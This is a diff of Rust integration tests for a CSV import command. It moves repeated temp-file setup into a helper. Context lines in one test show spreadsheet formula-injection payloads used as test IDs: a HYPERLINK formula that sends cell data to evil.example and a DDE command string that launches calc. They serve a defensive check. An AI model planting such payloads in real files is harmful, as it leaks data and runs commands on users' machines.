@@ -363,6 +363,18 @@ async fn imported_hashes_of_other_systems_consolidate(app: &TestApp) {
     );
 }
 
+/// A new file to import and its report's, named after `prefix`, under
+/// target/test-imports.
+fn import_files(prefix: &str) -> (std::path::PathBuf, std::path::PathBuf) {
+    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-imports");
+    std::fs::create_dir_all(&dir).unwrap();
+    let name = unique(prefix);
+    (
+        dir.join(format!("{name}.csv")),
+        dir.join(format!("{name}-report.csv")),
+    )
+}
+
 fn command(app: &TestApp) -> std::process::Command {
     let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_provider-portal"));
     c.env("DATABASE_URL", &app.database_url)
@@ -372,11 +384,7 @@ fn command(app: &TestApp) -> std::process::Command {
 }
 
 async fn the_command_reports_and_an_import_killed_midway_finishes(app: &TestApp) {
-    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-imports");
-    std::fs::create_dir_all(&dir).unwrap();
-    let name = unique("import");
-    let file = dir.join(format!("{name}.csv"));
-    let report = dir.join(format!("{name}-report.csv"));
+    let (file, report) = import_files("import");
     // 240 rows whose PIN comes in clear: each costs an argon2 hash, so
     // that the run lasts long enough to be killed in the middle.
     let mut text = HEADER.to_string();
@@ -478,11 +486,7 @@ async fn the_command_reports_and_an_import_killed_midway_finishes(app: &TestApp)
 /// or a repeated column: exit 2, the column named, nothing written, and
 /// no "run the same command again".
 async fn the_commands_report_runs_no_formula_and_a_bad_header_changes_nothing(app: &TestApp) {
-    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-imports");
-    std::fs::create_dir_all(&dir).unwrap();
-    let name = unique("formulas");
-    let file = dir.join(format!("{name}.csv"));
-    let report = dir.join(format!("{name}-report.csv"));
+    let (file, report) = import_files("formulas");
     let ids = [
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
         "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -573,11 +577,7 @@ async fn the_commands_report_runs_no_formula_and_a_bad_header_changes_nothing(ap
 /// of 150 MB stays within 100 MiB of what the command holds at rest.
 async fn a_stray_quote_is_read_in_constant_memory(app: &TestApp) {
     use std::io::Write;
-    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-imports");
-    std::fs::create_dir_all(&dir).unwrap();
-    let name = unique("quote");
-    let file = dir.join(format!("{name}.csv"));
-    let report = dir.join(format!("{name}-report.csv"));
+    let (file, report) = import_files("quote");
     {
         let mut f = std::io::BufWriter::new(std::fs::File::create(&file).unwrap());
         f.write_all(HEADER.as_bytes()).unwrap();
